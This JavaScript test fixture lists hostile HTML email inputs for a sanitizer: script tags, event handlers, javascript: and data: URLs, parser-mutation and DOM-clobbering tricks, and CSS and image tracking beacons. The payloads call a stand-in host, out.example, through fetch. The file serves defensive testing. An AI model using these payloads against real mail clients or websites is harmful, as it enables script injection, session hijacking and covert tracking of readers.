// SPDX-License-Identifier: Apache-2.0
// Mails that try to run a script, to leave their frame, or to tell somebody that
// they are read: one of each known kind, in words of our own. RUN is what a script
// of theirs would do; OUT is where they would tell it.
const RUN = "top.owned=parent.owned=self.owned=1;fetch('https://out.example/run')";
const OUT = "https://out.example/";
const b64 = (text) => Buffer.from(text).toString("base64");

// Script in markup.
const scripts = {
	"a script": `<script>${RUN}</script>`,
	"a script in capitals": `<SCRIPT>${RUN}</SCRIPT>`,
	"a script from elsewhere": `<script src="${OUT}a.js"></script>`,
	"a module": `<script type="module">import "${OUT}a.js"</script>`,
	"a script that is not closed": `<script>${RUN}`,
	"a script in a script": `<scr<script>ipt>${RUN}</scr</script>ipt>`,
	"a slash in the tag": `<script/x>${RUN}</script>`,
	"a null in the tag": `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
	"a script in noscript": `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
	"a script in a comment": `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
	"a comment that ends early": `<!--><img src=x onerror="${RUN}">-->`,
	"a comment with a bang": `<!--a--!><img src=x onerror="${RUN}">`,
	"a script in textarea": `<textarea><script>${RUN}</script></textarea><textarea></textarea><img src=x onerror="${RUN}">`,
	"a script in a title": `<title><img src=x onerror="${RUN}"></title>`,
	"a script in xmp": `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
	"a script in a template": `<template><script>${RUN}</script></template>`,
	"a script in a style": `<style><img src="</style><img src=x onerror=${RUN}//"></style>`,
	"a script in iframe text": `<iframe><img src="</iframe><img src=x onerror=${RUN}>"></iframe>`,
	"a script in plaintext": `<plaintext><script>${RUN}</script>`,
	"a script in noembed": `<noembed><img src="</noembed><img src=x onerror=${RUN}>"></noembed>`,
};

// Handlers of events.
const handlers = {
	"onerror": `<img src=x onerror="${RUN}">`,
	"onload of a picture": `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${RUN}">`,
	"onload of the body": `<body onload="${RUN}">`,
	"onpageshow": `<body onpageshow="${RUN}">`,
	"ontoggle": `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
	"onfocus with autofocus": `<a href="#" autofocus onfocus="${RUN}" tabindex=0>x</a>`,
	"onanimationstart": `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${RUN}">x</p>`,
	"ontransitionend": `<p style="transition:color 1ms" ontransitionend="${RUN}">x</p>`,
	"onbegin": `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
	"onmouseover all over": `<p onmouseover="${RUN}" style="position:fixed;inset:0">x</p>`,
	"onerror of a video": `<video><source onerror="${RUN}" src=x></video>`,
	"onerror of audio": `<audio src=x onerror="${RUN}"></audio>`,
	"onerror of an object": `<object data=x onerror="${RUN}"></object>`,
	"onerror of a link": `<link rel=stylesheet href=x onerror="${RUN}">`,
	"a slash before the handler": `<img/src=x/onerror="${RUN}">`,
	"a newline in the handler": `<img src=x one\nrror="${RUN}" onerror\n=\n"${RUN}">`,
	"an entity in the handler": `<img src=x onerror="&#116;op.owned=1">`,
	"two quotes": `<img src="x" title="a" "onerror="${RUN}" onerror="${RUN}">`,
	"backticks": "<img src=`x` onerror=`" + RUN + "`>",
	"onscroll": `<div style="height:1px;overflow:scroll" onscroll="${RUN}"><p style="height:99px">x</p></div>`,
	"onmessage": `<body onmessage="${RUN}" onhashchange="${RUN}">`,
	"onwheel": `<p onwheel="${RUN}" onpointerrawupdate="${RUN}">x</p>`,
};

// Addresses that are scripts.
const addresses = {
	"javascript:": `<a id=go href="javascript:${RUN}">x</a>`,
	"JaVaScRiPt with entities": `<a id=go href="&#106;ava&#x53;cript:${RUN}">x</a>`,
	"a tab in the scheme": `<a id=go href="java\tscript:${RUN}">x</a>`,
	"a newline in the scheme": `<a id=go href="java\nscript:${RUN}">x</a>`,
	"a control before the scheme": `<a id=go href="\u0001javascript:${RUN}">x</a>`,
	"vbscript:": `<a id=go href="vbscript:msgbox(1)">x</a>`,
	"data: with HTML": `<a id=go href="data:text/html,<script>${RUN}</script>">x</a>`,
	"data: with base64": `<a id=go href="data:text/html;base64,${b64(`<script>${RUN}</script>`)}">x</a>`,
	"blob:": "<a id=go href='blob:https://out.example/x'>x</a>",
	"javascript: in an area": `<map name=m><area shape=default id=go href="javascript:${RUN}"></map><img usemap=#m src=x>`,
	"javascript: in a form": `<form action="javascript:${RUN}"><button id=go>x</button></form>`,
	"javascript: in formaction": `<form><button id=go formaction="javascript:${RUN}">x</button></form>`,
	"javascript: in a frame": `<iframe src="javascript:${RUN}"></iframe>`,
	"javascript: in an embed": `<embed src="javascript:${RUN}">`,
	"javascript: in an object": `<object data="javascript:${RUN}"></object>`,
	"javascript: in a base": `<base href="javascript:${RUN}//"><a id=go href="x">x</a>`,
	"javascript: in a background": `<table background="javascript:${RUN}"><tr><td>x</table>`,
	"javascript: in SVG": `<svg><a xlink:href="javascript:${RUN}"><text id=go y=20>x</text></a></svg>`,
	"javascript: in MathML": `<math><mtext id=go href="javascript:${RUN}">x</mtext></math>`,
	"a refresh": `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
	"a refresh elsewhere": `<meta http-equiv=refresh content="0;url=${OUT}">`,
	"a srcdoc": `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
	"an isindex": `<isindex type=image src=x onerror="${RUN}">`,
};

// What parsers disagree about (mutation).
const mutations = {
	"a table in MathML": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
	"a paragraph in SVG": `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
	"a form in a form": `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
	"annotation-xml": `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
	"foreignObject": `<svg><foreignObject><p><style><!--</style><img src="--><img src=x onerror=${RUN}>"></foreignObject></svg>`,
	"desc in SVG": `<svg><desc><noscript><img src="</noscript><img src=x onerror=${RUN}>"></desc></svg>`,
	"a select": `<select><style></select><img src=x onerror=${RUN}></style>`,
	"deep nesting": "<div>".repeat(600) + `<img src=x onerror="${RUN}">`,
	"CDATA in SVG": `<svg><![CDATA[><img src=x onerror="${RUN}">]]></svg>`,
	"an is attribute": `<p is="x-y" onclick="${RUN}">x</p><x-y onfocus="${RUN}" tabindex=0 autofocus></x-y>`,
	"clobbered names": `<form id=attributes><input name=childNodes><img name=nodeName src=x onerror="${RUN}"></form><a id=body></a><a id=head href="x:y"></a>`,
	"a clobbered document": `<img name=getElementsByTagName><img name=querySelectorAll><form name=documentElement><input name=lang></form><p onclick="${RUN}">x</p>`,
	"SVG use of data": `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><script>${RUN}</script></svg>`)}#x"></svg>`,
	"an SVG picture with a script": `<img src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`)}">`,
	"shadow root": `<div><template shadowrootmode=open><img src=x onerror="${RUN}"></template></div>`,
	"a processing instruction": `<?xml-stylesheet href="javascript:${RUN}"?><p>x</p>`,
};

// What tells somebody that the mail is read, or loads from elsewhere.
const trackers = {
	"a picture": `<img src="${OUT}img">`,
	"a picture without a scheme": "<img src='//out.example/img2'>",
	"srcset": `<img srcset="${OUT}a 1x, ${OUT}b 2x">`,
	"picture and source": `<picture><source srcset="${OUT}source"><img src="${OUT}img3"></picture>`,
	"a background": `<table background="${OUT}background"><tr><td>x</table>`,
	"a background by style": `<p style="background:url('${OUT}style')">x</p>`,
	"a style with escapes": `<p style="background:\\75rl(${OUT}escaped)">x</p>`,
	"a style sheet's background": `<style>p{background-image:url(${OUT}sheet)}</style><p>x</p>`,
	"an import": `<style>@import url(${OUT}import);@import "${OUT}import2";</style><p>x</p>`,
	"a link to a style sheet": `<link rel=stylesheet href="${OUT}link.css">`,
	"prefetch": `<link rel=prefetch href="${OUT}prefetch"><link rel=dns-prefetch href="//out.example"><link rel=preconnect href="${OUT}">`,
	"a font": `<style>@font-face{font-family:x;src:url(${OUT}font)}p{font-family:x}</style><p>x</p>`,
	"a list picture": `<ul style="list-style-image:url(${OUT}list)"><li>x</ul>`,
	"content": `<style>p:before{content:url(${OUT}content)}</style><p>x</p>`,
	"a cursor": `<p style="cursor:url(${OUT}cursor),auto">x</p>`,
	"image-set": `<p style="background:image-set('${OUT}imageset' 1x)">x</p>`,
	"a mask": `<p style="mask:url(${OUT}mask);-webkit-mask:url(${OUT}mask2)">x</p>`,
	"a filter": `<p style="filter:url(${OUT}filter#x)">x</p>`,
	"a selector that leaks": `<style>a[href^="h"]{background:url(${OUT}leak)}</style><a href="https://x.example">x</a>`,
	"a video": `<video src="${OUT}video" poster="${OUT}poster" autoplay></video>`,
	"audio": `<audio src="${OUT}audio" autoplay></audio>`,
	"a frame": `<iframe src="${OUT}frame"></iframe>`,
	"an object": `<object data="${OUT}object"></object>`,
	"an embed": `<embed src="${OUT}embed">`,
	"an SVG picture": `<svg><image href="${OUT}svg" xlink:href="${OUT}svg2"></image></svg>`,
	"an SVG filter": `<svg><filter><feImage href="${OUT}fe"></feImage></filter></svg>`,
	"an input": `<input type=image src="${OUT}input">`,
	"a base": `<base href="${OUT}"><img src="base">`,
	"a manifest": `<html manifest="${OUT}manifest"><p>x</p>`,
	"a ping": `<a href="https://x.example" ping="${OUT}ping">x</a>`,
	"a profile": `<head profile="${OUT}profile"></head><p>x</p>`,
	"longdesc": `<img longdesc="${OUT}long" src="data:,">`,
	"a dynsrc": `<img dynsrc="${OUT}dyn" lowsrc="${OUT}low">`,
};

export const HOSTILE = Object.entries(
	{...scripts, ...handlers, ...addresses, ...mutations, ...trackers});
export const TRACKERS = Object.entries(trackers);
